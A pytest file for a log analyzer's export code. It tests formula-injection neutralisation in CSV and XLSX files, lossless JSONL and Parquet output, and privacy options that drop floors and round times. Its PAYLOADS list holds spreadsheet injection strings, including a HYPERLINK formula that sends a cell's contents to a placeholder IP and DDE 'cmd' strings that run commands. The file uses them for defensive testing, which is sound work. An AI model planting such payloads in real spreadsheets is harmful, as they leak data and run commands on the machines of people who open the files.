"""Tables as files: formulas are neutralised, texts come back, floors and times can be left out."""

import csv
import json
import re
from datetime import timedelta

import openpyxl
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl.utils.escape import unescape

from loganalyzer.cli import main
from loganalyzer.errors import UsageError
from loganalyzer.export import write
from loganalyzer.privacy import Discretion, discreet, read_floors, read_step
from tests.exports import Log, site, take
from tests.exports import write as write_export

# Source: OWASP, "CSV Injection", and public collections of its payloads, from memory.
PAYLOADS = [
    "=1+1", '=HYPERLINK("http://192.0.2.1/?"&A1,"door")', "=cmd|' /C calc'!A0", "+1+cmd|' /C x'!A0",
    "-2+3+cmd|' /C x'!A0", "@SUM(1+1)*cmd|' /C x'!A0", "\t=1+1", "\r=1+1", "\n=1+1", "\uff1d1+1",
    ';=1+1', '";=1+1', "'=1+1", "''=1+1",
]  # fmt: skip
PLAIN = ["-1", "+2", "-1.5", "7", "G", "", "a=b", "'", "'G", "door - left"]
RISKY = re.compile("^[=+\\-@\t\r\n\uff1d\uff0b\uff0d\uff20]")


def incidents(labels: list[str]) -> pd.DataFrame:
    return pd.DataFrame({"floor": labels, "code": labels, "seconds": [-1.5] * len(labels)})


def from_csv(path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


def restored(text: str) -> str:
    """What the guide says: one apostrophe less where a formula would stand behind them."""
    bare = text.lstrip("'")
    formula = RISKY.match(bare) and not re.fullmatch(r"[+-]?[0-9]+([.,][0-9]+)?", text)
    return text[1:] if text.startswith("'") and formula else text


def test_no_text_of_a_csv_file_is_a_formula_and_each_can_be_given_back(tmp_path):
    write(incidents(PAYLOADS + PLAIN), "incidents", tmp_path / "t.csv")
    rows = from_csv(tmp_path / "t.csv")
    for row, label in zip(rows, PAYLOADS + PLAIN, strict=True):
        number = re.fullmatch(r"[+-]?[0-9]+([.,][0-9]+)?", row["floor"])
        assert number or not RISKY.match(row["floor"])
        assert restored(row["floor"]) == label
        assert row["seconds"] == "-1.5"  # a number column is as it was


@given(st.lists(st.text("'=+-@\t\r\n1.a;\"\uff1d", max_size=6), min_size=1, max_size=20))
@settings(max_examples=60, deadline=None)
def test_any_text_comes_back_from_csv(tmp_path_factory, labels):
    path = tmp_path_factory.mktemp("csv") / "t.csv"
    write(incidents(labels), "incidents", path)
    assert [restored(row["floor"]) for row in from_csv(path)] == labels


def test_texts_of_a_workbook_are_text_cells_as_they_are(tmp_path):
    write(incidents(PAYLOADS + PLAIN), "incidents", tmp_path / "t.xlsx")
    sheet = openpyxl.load_workbook(tmp_path / "t.xlsx").active
    head = [cell.value for cell in sheet[1]]
    for row, label in zip(sheet.iter_rows(min_row=2), PAYLOADS + PLAIN, strict=True):
        cell = row[head.index("floor")]
        assert cell.data_type in ("s", "n")
        assert unescape(cell.value or "") == label
        assert bool(cell.quotePrefix) == bool(re.match(r"'*[=+\-@\t\r\n\uff1d]", label))
        assert row[head.index("seconds")].value == -1.5


def test_a_text_too_long_for_a_cell_is_cut_where_one_sees_it(tmp_path):
    write(incidents(["x" * 40_000]), "incidents", tmp_path / "t.xlsx")
    sheet = openpyxl.load_workbook(tmp_path / "t.xlsx").active
    cells = [cell.value for cell in sheet[2]]
    text = next(cell for cell in cells if isinstance(cell, str))
    assert text.endswith("(cut: the cell holds no more)")


@pytest.mark.parametrize("ending", ["jsonl", "parquet"])
def test_json_and_parquet_hold_the_texts_untouched(tmp_path, ending):
    path = tmp_path / f"t.{ending}"
    write(incidents(PAYLOADS + PLAIN), "incidents", path)
    if ending == "jsonl":
        found = [json.loads(line)["floor"] for line in path.read_text("utf-8").split("\n") if line]
    else:
        found = pd.read_parquet(path)["floor"].tolist()
    assert found == PAYLOADS + PLAIN


UTC = pd.DatetimeTZDtype("us", "UTC")


def lived() -> pd.DataFrame:
    stamps = ["2026-10-05T08:07:59", "2026-10-05T08:15:00", None]
    times = pd.Series(stamps).astype("datetime64[us]")
    return pd.DataFrame({
        "incident": ["a", "b", "c"], "floor": ["7", "8", None],
        "start": times.dt.tz_localize("UTC"),
        "device_time": times, "seconds": [3.5, 4.0, None],
        "detail": ["7 and 8 open", "8 open at 08:15:00", "17 s"],
        "drops_by_floor": ['{"7": 1, "8": 2}', None, "{}"], "evidence": ["abc:71", "abc:72", "d:1"],
    }).assign(start=lambda t: t["start"].astype(UTC))  # fmt: skip


def test_a_floor_left_out_is_in_no_row_and_no_text():
    left = discreet(lived(), Discretion(floors=frozenset(["8"])))
    assert left["floor"].fillna("").tolist() == ["7", ""]
    assert left["drops_by_floor"].tolist() == ['{"7": 1}', "{}"]
    assert left["detail"].isna().tolist() == [True, False]
    assert left["incident"].isna().all()
    assert left["start"].iloc[0] == pd.Timestamp("2026-10-05T08:07:59Z")


def test_rounded_times_are_whole_steps_and_stand_in_no_text():
    left = discreet(lived(), Discretion(step=timedelta(minutes=15)))
    assert left["start"].dt.strftime("%H:%M:%S").fillna("").tolist() == ["08:00:00", "08:15:00", ""]
    assert left["device_time"].dt.strftime("%H:%M").fillna("").tolist() == ["08:00", "08:15", ""]
    assert left["detail"].isna().tolist() == [False, True, False]
    assert left["seconds"].tolist()[:2] == [3.5, 4.0]
    assert left["evidence"].tolist() == lived()["evidence"].tolist()


def test_floors_in_a_list_are_rows_about_them():
    table = pd.DataFrame({"floors": ['["7", "8"]', "8,9", "9", None, "7"], "times": range(5)})
    left = discreet(table, Discretion(floors=frozenset(["7", "8"])))
    assert left["times"].tolist() == [2, 3]


def test_nothing_asked_changes_nothing():
    pd.testing.assert_frame_equal(discreet(lived(), Discretion()), lived())


@pytest.mark.parametrize("text", ["7min", "0s", "15", "1d", "", "-15min", "99999h"])
def test_a_step_that_a_day_is_no_whole_number_of_is_a_mistake(text):
    with pytest.raises(UsageError, match="round-times"):
        read_step(text)


def test_an_unknown_floor_is_a_mistake_since_nothing_would_be_left_out():
    assert read_floors("7, 8", ["7", "8", "9"]) == {"7", "8"}
    with pytest.raises(UsageError, match="77"):
        read_floors("77", ["7", "8"])


@pytest.fixture(scope="module")
def store(tmp_path_factory):
    folder = tmp_path_factory.mktemp("private")
    log = Log("2026-10-05 08:00:01")
    for number in range(40):
        for text in ("BUTTON", "DOOR OPEN", "DOOR SHUT"):
            log.event(61, str(7 + number % 3), text)
    take(folder / "store", write_export(folder / "log.csv", log.lines), of=site())
    return folder / "store"


@pytest.mark.parametrize("table", ["timeline", "cycles", "visits", "floors", "coverage", "imports"])
def test_the_command_leaves_out_what_it_is_told_to(store, tmp_path, table, capsys):
    out = tmp_path / f"{table}.csv"
    asked = ["--without-floors", "8", "--round-times", "1h"]
    assert main(["export", table, "--store", str(store), "--out", str(out), *asked]) == 0
    rows = from_csv(out)
    assert rows
    assert "8" not in {row.get("floor") for row in rows}
    stamps = re.findall(r"T\d\d:(\d\d:\d\d)", out.read_text("utf-8"))
    assert set(stamps) <= {"00:00"}
